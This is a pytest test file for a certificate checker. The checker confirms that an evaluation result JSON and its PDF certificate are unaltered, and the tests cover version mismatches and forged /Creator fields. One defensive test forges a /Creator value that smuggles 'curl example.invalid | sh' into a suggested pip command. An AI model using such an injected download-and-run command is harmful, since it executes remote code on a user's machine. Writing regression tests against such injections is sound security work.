"""verify_certificate: passes on an untouched result and PDF; fails, naming what changed,
when one digit of a metric in the JSON or one byte of the PDF is changed."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from medeval.errors import ResultError
from medeval.report import verify_certificate
from medeval.result import Result


def copy_result(result: Path, folder: Path) -> Path:
    for file in result.parent.glob("result*"):
        shutil.copy(file, folder / file.name)
    return folder / result.name


def test_untouched_result_and_pdf_pass(certified: Path, certificate: Path,
                                       info_file: Path) -> None:
    outcome = verify_certificate(certified, certificate, report_info=info_file)
    assert outcome.ok, outcome.problems
    assert outcome.printed == outcome.fingerprint
    assert outcome.check() == outcome.fingerprint


def test_one_digit_of_a_metric_in_the_json(certified: Path, certificate: Path,
                                           info_file: Path, tmp_path: Path) -> None:
    changed = copy_result(certified, tmp_path)
    data = json.loads(changed.read_text(encoding="utf-8"))
    value = data["metrics"]["sensitivity"]["value"]
    text = changed.read_text(encoding="utf-8")
    digits = repr(value)
    wrong = digits[:4] + str((int(digits[4]) + 1) % 10) + digits[5:]  # the 3rd decimal
    assert text.count(f'"value": {digits}') == 1
    changed.write_text(text.replace(f'"value": {digits}', f'"value": {wrong}'),
                       encoding="utf-8")
    outcome = verify_certificate(changed, certificate, report_info=info_file)
    assert not outcome.ok
    report = "\n".join(outcome.problems)
    assert "result.json" in report and "changed after it was written" in report
    assert "was issued for result sha256:" in report
    assert "metrics.sensitivity" in report
    assert f"{value:.4f}" in report and f"{float(wrong):.4f}" in report
    with pytest.raises(ResultError, match="metrics.sensitivity"):
        outcome.check()


def test_a_digit_below_the_printed_precision_is_still_named(
        certified: Path, certificate: Path, info_file: Path, tmp_path: Path) -> None:
    data = json.loads(certified.read_text(encoding="utf-8"))
    data["metrics"]["specificity"]["high"] += 1e-12
    outcome = verify_certificate(Result.from_dict(data), certificate, report_info=info_file)
    assert not outcome.ok
    assert any("metrics.specificity" in p for p in outcome.problems)


def test_one_byte_of_the_pdf(certified: Path, certificate: Path, info_file: Path,
                             tmp_path: Path) -> None:
    payload = bytearray(certificate.read_bytes())
    for offset in (len(payload) // 2, 600):
        altered = bytearray(payload)
        altered[offset] ^= 0x01
        pdf = tmp_path / f"altered-{offset}.pdf"
        pdf.write_bytes(bytes(altered))
        outcome = verify_certificate(certified, pdf, report_info=info_file)
        assert not outcome.ok, offset
        report = "\n".join(outcome.problems)
        assert str(pdf) in report
        assert f"at byte {offset}" in report or "fingerprint" in report, report


def test_no_info_needed_and_other_report_info_is_named(certified: Path, certificate: Path,
                                                       tmp_path: Path) -> None:
    # the certificate carries the report info it was rendered with: none need be given
    assert verify_certificate(certified, certificate).ok
    other = tmp_path / "other.toml"
    other.write_text('report_number = "KTL-2026-0002"\n', encoding="utf-8")
    outcome = verify_certificate(certified, certificate, report_info=other)
    assert not outcome.ok
    assert "report info" in outcome.problems[0]
    # the flag the message names is the one the command line has
    assert "--info" in outcome.problems[0] and "--report-info" not in outcome.problems[0]


def test_result_alone(certified: Path) -> None:
    outcome = verify_certificate(certified)
    assert outcome.ok and outcome.printed is None


def test_not_a_certificate(certified: Path, tmp_path: Path) -> None:
    from reportlab.pdfgen.canvas import Canvas

    other = tmp_path / "other.pdf"
    canvas = Canvas(str(other), invariant=1)
    canvas.drawString(100, 100, "hello")
    canvas.save()
    outcome = verify_certificate(certified, other)
    assert not outcome.ok
    assert "no result fingerprint found" in "\n".join(outcome.problems)


def _pdf_name(version: str) -> bytes:
    """``/Creator (medeval X.Y.Z)`` as reportlab writes it: the dots as ``\\056``."""
    return b"/Creator (medeval " + version.replace(".", "\\056").encode() + b")"


def _earlier_alike(version: str) -> str:
    """A version before ``version`` whose /Creator name is as long as its own: as many
    dots (each written ``\\056``) and characters (``0.9.0`` -> ``0.0.1``,
    ``0.10.0.dev0`` -> ``0.0.1.00000``)."""
    name = "0.0.1" + ".0" * (version.count(".") - 2)
    return name + "0" * (len(version) - len(name))


def _renamed(certificate: Path, tmp_path: Path, name: bytes) -> Path:
    """The certificate with its /Creator's version swapped, byte for byte (same length),
    as a medeval of that version laying it out alike wrote it."""
    from medeval._version import __version__

    payload = certificate.read_bytes()
    ours = _pdf_name(__version__)
    assert payload.count(ours) == 1 and len(name) == len(ours)
    out = tmp_path / "renamed.pdf"
    out.write_bytes(payload.replace(ours, name))
    return out


def _made_by(certified: Path, version: str, folder: Path) -> Path:
    """The certified result as a medeval of ``version`` made it (its parameters.medeval),
    written beside its cases."""
    from dataclasses import replace

    from medeval.result import read_result, write_result

    result = read_result(certified)
    made = replace(result, parameters=replace(result.parameters, medeval=version))
    return write_result(made, folder / "result.json")


def test_a_certificate_another_version_laid_out_alike_is_genuine(
        certified: Path, info_file: Path, tmp_path: Path) -> None:
    # An earlier medeval that laid its result out as this one does (a later medeval keeps
    # an earlier result's wording, report/made_by.py) wrote these bytes but for its name
    # in /Creator. Before, every version bump made such a certificate "cannot be
    # compared"; rendered again under the name it carries, it is the same bytes: genuine.
    from pypdf import PdfReader

    from medeval._version import __version__
    from medeval.report import render_certificate

    old_version = _earlier_alike(__version__)  # as long as this version's name
    result = _made_by(certified, old_version, tmp_path)
    ours = render_certificate(result, tmp_path / "ours.pdf", report_info=info_file)
    old = _renamed(ours, tmp_path, _pdf_name(old_version))
    assert PdfReader(old).metadata["/Creator"] == f"medeval {old_version}"
    outcome = verify_certificate(result, old, report_info=info_file)
    assert outcome.ok, outcome.problems
    # a Creator that is not a version's name is not rendered under: the bytes differ
    forged = _renamed(ours, tmp_path, _pdf_name(__version__).replace(b"\\056", b"    ", 1))
    outcome = verify_certificate(result, forged, report_info=info_file)
    assert not outcome.ok
    # nor a version's number followed by words ('medeval 0.80abcd'; PEP 440 has no such)
    words = b"/Creator (medeval 0\\05680abcd"  # 'medeval 0.80abcd', x-padded to length
    words += b"x" * (len(_pdf_name(__version__)) - len(words) - 1) + b")"
    worded = _renamed(ours, tmp_path, words)
    assert PdfReader(worded).metadata["/Creator"].startswith("medeval 0.80abcd")
    assert not verify_certificate(result, worded, report_info=info_file).ok


def test_a_certificate_naming_a_version_before_its_results_is_not_genuine(
        certified: Path, info_file: Path, certificate: Path, tmp_path: Path) -> None:
    # This version's certificate of this version's result, its /Creator rewritten to an
    # earlier version: laid out alike, it used to verify genuine, though no medeval
    # renders a result a later medeval made (found in the review of the lead's commits).
    from medeval._version import __version__

    old_version = _earlier_alike(__version__)
    renamed = _renamed(certificate, tmp_path, _pdf_name(old_version))
    outcome = verify_certificate(certified, renamed, report_info=info_file)
    assert not outcome.ok
    assert outcome.problems == (
        f"certificate {renamed}: it names medeval {old_version} as its maker, but its "
        f"result was made by medeval {__version__}, and no medeval renders a result of a "
        "later version: its /Creator was written over the renderer's",)
    # and the verification page says it in Korean
    from medeval.web.differences_ko import difference_ko

    assert difference_ko(outcome.problems[0]) == (
        f"성적서 {renamed}: 만든 프로그램을 medeval {old_version}(으)로 적고 있으나 그 결과는 "
        f"medeval {__version__}에서 만들었습니다. 어떤 medeval도 더 나중 버전의 결과를 성적서로 "
        "만들지 않으므로 /Creator가 바뀌어 쓰였습니다")


def test_a_certificate_of_another_version_is_said_so(certified: Path, info_file: Path,
                                                     tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    # A certificate is rendered again byte for byte only by the medeval that made it; one
    # from another version used to read "the PDF was altered, or rendered by another
    # version of medeval/reportlab/pypdf", without saying which. Rendered here as
    # medeval 0.0.1 would, laying the pages out 1 pt further right (its /Creator and its
    # frame), it names both versions, and the printed text, the same, adds no difference.
    import medeval.report.pdf as pdf_module
    from medeval._version import __version__
    from medeval.report import render_certificate

    result = _made_by(certified, "0.0.1", tmp_path)  # a result of medeval 0.0.1
    monkeypatch.setattr(pdf_module, "__version__", "0.0.1")
    monkeypatch.setattr(pdf_module, "_LEFT", pdf_module._LEFT + 1)
    old = render_certificate(result, tmp_path / "old.pdf", report_info=info_file)
    monkeypatch.undo()
    from pypdf import PdfReader
    assert PdfReader(old).metadata["/Creator"] == "medeval 0.0.1"
    outcome = verify_certificate(result, old, report_info=info_file)
    assert not outcome.ok
    assert outcome.problems == (
        f"certificate {old}: rendered by medeval 0.0.1; this is medeval {__version__}, which "
        "lays a "
        "certificate out otherwise, so its bytes cannot be compared: verify it with the "
        "version that made it (medeval 0.0.1, installed from its source: 'medeval' on PyPI "
        "is another project). Its printed text was compared with the result instead",)
    # the verification page's Korean names both versions, and no pip command fetching
    # PyPI's 'medeval' (another project; the message said 'pip install medeval==0.0.1')
    from medeval.web.differences_ko import difference_ko

    korean = difference_ko(outcome.problems[0])
    assert "medeval 0.0.1에서 만든 성적서" in korean and "pip" not in korean


def test_a_creator_that_is_no_version_is_not_offered_as_one(
        certified: Path, info_file: Path, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    # Found in the review-lead pass: any /Creator starting 'medeval ' was named as the
    # version to install, inside a shell command: a forged certificate whose Creator is
    # "medeval 1'; curl ...; echo '" had the tester told to run
    # pip install 'medeval==1'; curl ...; echo ''. A Creator that is no version's name is
    # now judged as any other difference of bytes.
    import medeval.report.pdf as pdf_module
    from medeval.report import render_certificate

    odd = "1'; curl example.invalid | sh; echo '"
    monkeypatch.setattr(pdf_module, "__version__", odd)
    forged = render_certificate(certified, tmp_path / "forged.pdf", report_info=info_file)
    monkeypatch.undo()
    outcome = verify_certificate(certified, forged, report_info=info_file)
    assert not outcome.ok
    assert len(outcome.problems) == 1 and "curl" not in outcome.problems[0]
    assert outcome.problems[0].startswith(
        f"certificate {forged}: its bytes differ from the certificate rendered from the "
        "result at byte ")
